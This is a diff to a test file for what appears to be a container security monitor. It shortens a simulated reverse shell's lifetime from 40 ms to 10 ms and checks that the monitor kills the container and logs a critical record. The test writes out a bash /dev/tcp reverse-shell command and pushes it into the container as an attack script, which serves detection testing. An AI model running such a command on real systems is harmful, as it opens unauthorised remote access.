@@ -60,14 +60,14 @@ describe('short-lived processes, seen by their exec', () => {
     expect(await bed.status(c.name)).toBe('Running');
   });
 
-  it('kills a container whose reverse shell lived 40 ms, and the record names it', async () => {
+  it('kills a container whose reverse shell lived 10 ms, and the record names it', async () => {
     const c = await bed.launch('short-revshell');
     const shell = `bash -i >& /dev/tcp/${GATEWAY}/1 0>&1`;
-    // However the gateway answers port 1, timeout ends the attempt within 40 ms.
+    // However the gateway answers port 1, timeout ends the attempt within 10 ms.
     await bed.incus.files.push(
       c.name,
       '/tmp/attack.sh',
-      Buffer.from(`timeout 0.04 bash -c '${shell}'\n`),
+      Buffer.from(`timeout 0.01 bash -c '${shell}'\n`),
     );
     bed.fire(c.name, ['sh', '/tmp/attack.sh']);
     const record = await bed.waitForRecord(c.name, (r) => r.level === 'critical');
